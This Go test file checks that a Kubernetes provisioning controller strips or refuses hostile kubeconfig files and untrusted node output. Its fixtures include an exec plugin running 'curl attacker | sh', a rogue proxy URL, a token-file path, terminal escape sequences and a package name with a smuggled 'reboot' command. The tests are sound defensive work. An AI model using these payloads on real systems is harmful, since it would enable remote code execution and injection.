package steprun_test

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/tools/clientcmd"
	"sigs.k8s.io/controller-runtime/pkg/client"

	bpav1 "github.com/akraino-edge-stack/bpa-workflow-controller/api/v1alpha1"
	"github.com/akraino-edge-stack/bpa-workflow-controller/internal/steprun"
	"github.com/akraino-edge-stack/bpa-workflow-controller/internal/testsshd"
	"github.com/akraino-edge-stack/bpa-workflow-controller/pkg/steps"
)

// testCA is a self-signed CA certificate in PEM, as kubeadm's admin.conf inlines the cluster's.
var testCA = func() string {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "kubernetes"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		panic(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
}()

// testAdminConf is an admin.conf with the test CA and the given user lines (indented under
// `user:`), and whatever extra YAML follows.
func testAdminConf(user string, extra ...string) string {
	return `apiVersion: v1
kind: Config
clusters:
- cluster:
    certificate-authority-data: ` + base64.StdEncoding.EncodeToString([]byte(testCA)) + `
    server: https://lb.cluster.local:8443
  name: cluster.local
contexts:
- context:
    cluster: cluster.local
    user: kubernetes-admin
  name: kubernetes-admin@cluster.local
current-context: kubernetes-admin@cluster.local
users:
- name: kubernetes-admin
  user:` + user + "\n" + strings.Join(extra, "")
}

// TestHostileMasterReachesNoFurther gives fetch-kubeconfig a master (a real sshd) that serves
// crafted admin.conf files: what it stores is the least that reaches the new cluster, and a
// file that would make the kubeconfig's users run a command, read their own files, or read
// without bound is refused, finally, saying why and quoting nothing of it.
func TestHostileMasterReachesNoFurther(t *testing.T) {
	sshd := testsshd.Start(t)
	ns := newNamespace(t)
	_, ref := provisioning(t, "provisioning-cluster-abc.yaml", ns, "abc", ns)
	pinNode(t, ns, sshd.Port, sshd.HostKey)
	opts := steprun.SSHOptions{KeyFile: sshd.ClientKeyFile, Port: sshd.Port, Timeout: 10 * time.Second}
	fetch := func(t *testing.T, content string) error {
		t.Helper()
		conf := filepath.Join(t.TempDir(), "admin.conf")
		if err := os.WriteFile(conf, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return steprun.FetchKubeconfig(ctx(), env.Client, ref, abcRun, abcPlaced("127.0.0.1"), conf, opts)
	}

	t.Run("extras dropped", func(t *testing.T) {
		crafted := testAdminConf(`
    token: `+secretToken+`
    as: system:admin
    username: admin
    password: hunter2`, `- name: other
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: ["-c", "curl attacker | sh"]
extensions:
- name: x
  extension: {}
`)
		crafted = strings.Replace(crafted, "    server: https://lb.cluster.local:8443\n",
			"    server: https://lb.cluster.local:8443\n    proxy-url: http://192.0.2.66:3128\n    tls-server-name: lb.cluster.local\n", 1)
		if err := fetch(t, crafted); err != nil {
			t.Fatal(err)
		}
		sec := &corev1.Secret{}
		if err := env.Client.Get(ctx(), client.ObjectKey{Namespace: ns, Name: "cluster-abc" + bpav1.KubeconfigSecretSuffix}, sec); err != nil {
			t.Fatal(err)
		}
		cfg, err := clientcmd.Load(sec.Data[bpav1.KubeconfigSecretKey])
		if err != nil {
			t.Fatal(err)
		}
		if len(cfg.Clusters) != 1 || len(cfg.AuthInfos) != 1 || len(cfg.Contexts) != 1 || len(cfg.Extensions) != 0 {
			t.Fatalf("stored %d clusters, %d users, %d contexts, %d extensions; want one of each and none", len(cfg.Clusters), len(cfg.AuthInfos), len(cfg.Contexts), len(cfg.Extensions))
		}
		for _, cl := range cfg.Clusters {
			if cl.ProxyURL != "" || cl.InsecureSkipTLSVerify || cl.Server != "https://127.0.0.1:8443" || cl.TLSServerName != "lb.cluster.local" {
				t.Errorf("cluster %+v: want the master's address, the CA and the server name only", cl)
			}
		}
		for _, u := range cfg.AuthInfos {
			if u.Token != secretToken || u.Impersonate != "" || u.Username != "" || u.Password != "" || u.Exec != nil {
				t.Errorf("user %+v: want the token only", u)
			}
		}
	})

	for _, tc := range []struct{ name, content, want string }{
		{"an exec plugin", testAdminConf(`
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh`), "runs a command or an auth provider"},
		{"a token file", testAdminConf(`
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token`), "no inline client certificate or token"},
		{"TLS verification skipped", strings.Replace(testAdminConf(`
    token: x`), "    certificate-authority-data:", "    insecure-skip-tls-verify: true\n    x-certificate-authority-data:", 1), "no inline certificate-authority-data"},
		{"not a CA", strings.Replace(testAdminConf(`
    token: x`), base64.StdEncoding.EncodeToString([]byte(testCA)), base64.StdEncoding.EncodeToString([]byte("CA DATA")), 1), "not a PEM certificate"},
		{"not a kubeconfig", "\x1b]0;pwned\x07" + strings.Repeat("garbage ", 100), "not a kubeconfig"},
		{"without bound", strings.Repeat("x", 5<<20), "printed more than"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := fetch(t, tc.content)
			if err == nil || steps.IsRetryable(err) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("%v; want a final error saying %q", err, tc.want)
			}
			if strings.Contains(err.Error(), "pwned") || strings.Contains(err.Error(), "garbage") || strings.Contains(err.Error(), "xxxx") {
				t.Errorf("the error quotes the node's file: %v", err)
			}
		})
	}
}

// TestHostileNodeOutputIsNotTrusted gives install-software a node (a real sshd) whose package
// tools print crafted output: packages it did not ask about, terminal escapes, a flood of
// stderr. The report holds only the asked packages' well-formed versions, and the failure's
// reason is one bounded, printable line.
func TestHostileNodeOutputIsNotTrusted(t *testing.T) {
	bin := t.TempDir()
	script := func(name, body string) {
		if err := os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\n"+body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	script("dpkg-query", `printf 'jq\tii \t1.6\033]0;pwned\007\n'
printf 'curl\tii \t7.88.1-10\n'
printf 'evil;reboot\tii \t1.0\n'
`)
	script("apt-get", `case "$*" in *update*) exit 0;; esac
i=0; while [ $i -lt 20000 ]; do printf 'E: \033[31mflood %d\033[0m\n' $i >&2; i=$((i+1)); done
printf 'E: \033]0;pwned\007%s\n' "$(head -c 3000 /dev/zero | tr '\0' x)" >&2
exit 100
`)
	sshd := testsshd.StartWithEnv(t, map[string]string{"PATH": bin + ":/usr/bin:/bin"})
	ns := pinnedNamespace(t, sshd)
	ref := software(t, ns, []bpav1.SoftwarePackage{{Name: "curl"}, {Name: "jq"}})
	opts := steprun.InstallOptions{SSH: steprun.SSHOptions{KeyFile: sshd.ClientKeyFile, Port: sshd.Port, Timeout: 10 * time.Second}}
	report, err := steprun.InstallSoftware(ctx(), env.Client, ref, "master", "master", "127.0.0.1", opts)
	if err == nil {
		t.Fatal("a node whose apt-get fails succeeded")
	}
	if strings.Join(report.Installed, " ") != "curl=7.88.1-10" || strings.Join(report.Unchanged, " ") != "curl=7.88.1-10" {
		t.Errorf("installed %v unchanged %v; want curl only (jq's version is not a version)", report.Installed, report.Unchanged)
	}
	if len(report.Failed) != 1 || report.Failed[0].Package != "jq" {
		t.Fatalf("failed %+v; want jq", report.Failed)
	}
	for _, msg := range []string{report.Failed[0].Reason, err.Error()} {
		if strings.ContainsAny(msg, "\x1b\x07\n") || strings.Contains(msg, "pwned") && strings.Contains(msg, "\x1b") || len(msg) > 2048 {
			t.Errorf("a message carries the node's escapes or is unbounded (%d bytes): %q", len(msg), msg)
		}
		if !strings.Contains(msg, "apt-get exited 100: E: ]0;pwnedxxxx") || !strings.HasSuffix(msg, "…") && !strings.Contains(msg, "…") {
			t.Errorf("the message %q does not say what failed, cut short", msg)
		}
	}
}
